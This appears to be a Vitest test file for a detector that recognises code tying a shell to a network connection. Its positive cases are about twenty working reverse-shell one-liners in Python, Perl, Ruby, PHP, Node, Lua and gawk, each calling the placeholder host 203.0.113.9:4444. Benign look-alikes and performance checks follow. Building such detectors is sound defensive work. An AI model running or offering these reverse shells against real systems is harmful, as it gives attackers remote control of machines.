import { describe, expect, it } from "vitest"
import { codeJoin } from "./inline-code.js"

describe("a shell is tied to a connection in", () => {
  it.each([
    [
      "python3",
      'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")',
    ],
    [
      "python3",
      'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("sh")',
    ],
    [
      "python",
      's=socket.create_connection(("203.0.113.9",4444));f=s.fileno();os.dup2(f,0);os.dup2(f,1);subprocess.call(["/bin/sh","-i"])#import socket',
    ],
    [
      "python3.12",
      'import socket as k,subprocess as p\ns=k.socket();s.connect(("203.0.113.9",4444))\np.call(["sh"],stdin=s,stdout=s,stderr=s)',
    ],
    [
      "python3",
      'import socket,subprocess\ns=socket.create_connection(("203.0.113.9",4444))\nwhile 1:\n c=s.recv(999).decode()\n s.send(subprocess.getoutput(c).encode())',
    ],
    [
      "python3",
      'import socket,os\ns=socket.create_connection(("203.0.113.9",4444))\nfor l in s.makefile(): s.send(os.popen(l).read().encode())',
    ],
    [
      "perl",
      'use Socket;$i="203.0.113.9";$p=4444;socket(S,2,1,6);connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");',
    ],
    [
      "perl",
      '$c=new IO::Socket::INET(PeerAddr,"203.0.113.9:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;',
    ],
    ["perl", 'use IO::Socket;$s=IO::Socket::INET->new("203.0.113.9:4444");while(<$s>){print $s `$_`}'],
    ["perl", 'use IO::Socket;$s=IO::Socket::INET->new("203.0.113.9:4444");while($l=<$s>){print $s qx($l)}'],
    ["ruby", 'f=TCPSocket.open("203.0.113.9",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)#<&3'],
    ["ruby", 's=TCPSocket.new("203.0.113.9",4444);spawn("sh",[:in,:out,:err]=>s)'],
    ["ruby", 'c=TCPSocket.new("203.0.113.9","4444");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'],
    ["php", '$s=fsockopen("203.0.113.9",4444);exec("/bin/sh -i <&3 >&3 2>&3");'],
    ["php", '$s=fsockopen("203.0.113.9",4444);$p=proc_open("sh",array(0=>$s,1=>$s,2=>$s),$x);'],
    ["php8.2", '$s=fsockopen("203.0.113.9",4444);while($l=fgets($s)){fwrite($s,shell_exec($l));}'],
    [
      "node",
      'c=require("net").connect(4444,"203.0.113.9",()=>{s=require("child_process").spawn("sh");c.pipe(s.stdin);s.stdout.pipe(c)})',
    ],
    [
      "node",
      'const c=require("net").connect(4444,"203.0.113.9");c.on("data",d=>c.write(require("child_process").execSync(d.toString())))',
    ],
    [
      "node",
      'const c=require("net").connect(4444,"203.0.113.9");c.on("connect",()=>require("child_process").spawn("sh",[],{stdio:[c,c,c]}))',
    ],
    [
      "lua5.4",
      'local t=require("socket").tcp();t:connect("203.0.113.9",4444);while true do local r,x=t:receive();local f=io.popen(r,"r");t:send(f:read("*a")) end',
    ],
    [
      "gawk",
      'BEGIN{s="/inet/tcp/0/203.0.113.9/4444";while(1){while((s|&getline c)>0){while((c|&getline)>0)print $0|&s;close(c)}}}',
    ],
  ])("%s %s", (program, code) => {
    expect(codeJoin(program, code)).toMatchObject({})
  })
})

describe("no shell is tied to a connection in", () => {
  it.each([
    ["python3", 'import socket;socket.create_connection(("203.0.113.9",443)).send(b"x")'],
    [
      "python3",
      'import socket,subprocess,time\nwhile True:\n try:\n  socket.create_connection(("db",5432),2).close();break\n except OSError: time.sleep(1)\nsubprocess.run(["sh","-c","./start"])',
    ],
    [
      "python3",
      'import socket,subprocess\ns=socket.socket();s.connect(("h",80));s.send(b"GET / HTTP/1.0\\r\\n\\r\\n");print(s.recv(99))\np=subprocess.Popen(["sh"],stdin=subprocess.PIPE,stdout=subprocess.PIPE)',
    ],
    [
      "python3",
      'import socket,subprocess\nfrom subprocess import PIPE\ns=socket.socket();s.connect_ex(("h",80))\nsubprocess.Popen("sh x.sh",shell=True,stdin=PIPE,stdout=PIPE)',
    ],
    [
      "python3",
      'import os,socket;s=socket.create_connection(("logs",514));os.dup2(s.fileno(),1);os.system("sh build.sh")',
    ],
    ["python3", "import subprocess;subprocess.run(['sh','-c','ls'])"],
    ["perl", 'use IO::Socket::INET;until(IO::Socket::INET->new("db:5432")){sleep 1}exec "sh start.sh"'],
    ["perl", 'use IO::Socket;$s=IO::Socket::INET->new("h:25");while(<$s>){last if /^220/}exec "sh","start.sh"'],
    ["ruby", 'begin;TCPSocket.new("db",5432).close;rescue;sleep 1;retry;end;exec "sh start.sh"'],
    ["ruby", 'TCPSocket.new("db",5432).close;spawn("sh x.sh",in: "/dev/null")'],
    ["php", '$i=0;while(!@fsockopen("db",3306)&&$i++<30)sleep(1);system("sh start.sh");'],
    ["php", '$s=fsockopen("h",80);fwrite($s,"x");echo fgets($s);exec("php artisan migrate");'],
    [
      "node",
      'const w=()=>require("net").connect(5432,"db").on("connect",()=>require("child_process").execSync("sh start.sh",{stdio:"inherit"})).on("error",()=>setTimeout(w,500));w()',
    ],
    [
      "node",
      'const c=require("net").connect(80,"h");c.on("data",d=>{console.log(d);require("child_process").exec("npm start")})',
    ],
    [
      "node",
      'require("net").connect(1,"h");const p=require("child_process").spawn("sh",["x.sh"],{stdio:["pipe","pipe","pipe"]})',
    ],
    ["lua", 'local s=require("socket");repeat local c=s.connect("db",5432) until c;os.execute("sh start.sh")'],
    ["gawk", 'BEGIN{s="/inet/tcp/0/db/5432";print "x"|&s;s|&getline line;print line;system("sh start.sh")}'],
    ["bash", "socket connect dup2(s.fileno(),0) exec"],
  ])("%s %s", (program, code) => {
    expect(codeJoin(program, code)).toBeUndefined()
  })
})

it("says where the connection leads when one address stands in the code", () => {
  const php = (host: string) => codeJoin("php", `$s=fsockopen(${host});exec("/bin/sh -i <&3 >&3");`)?.place
  expect(php('"203.0.113.9",4444')).toEqual({ address: "203.0.113.9", port: 4444 })
  expect(php('"tcp://203.0.113.9:4444"')).toEqual({ address: "203.0.113.9", port: 4444 })
  expect(php("$argv[1],4444")).toEqual({ address: undefined, port: undefined })
  expect(php('$x?"203.0.113.9":"198.51.100.7",4444')).toEqual({ address: undefined, port: undefined })
})

it.each(["a", "s=socket.socket(", "stdin=", "(", "dup2(s,", "c=c.recv(", "run("])(
  "of many %j costs time in proportion to its length",
  (unit) => {
    const code = `socket ${unit.repeat(200_000 / unit.length)}`
    const before = process.cpuUsage()
    codeJoin("python3", code)
    expect(process.cpuUsage(before).user).toBeLessThan(500_000)
  },
)
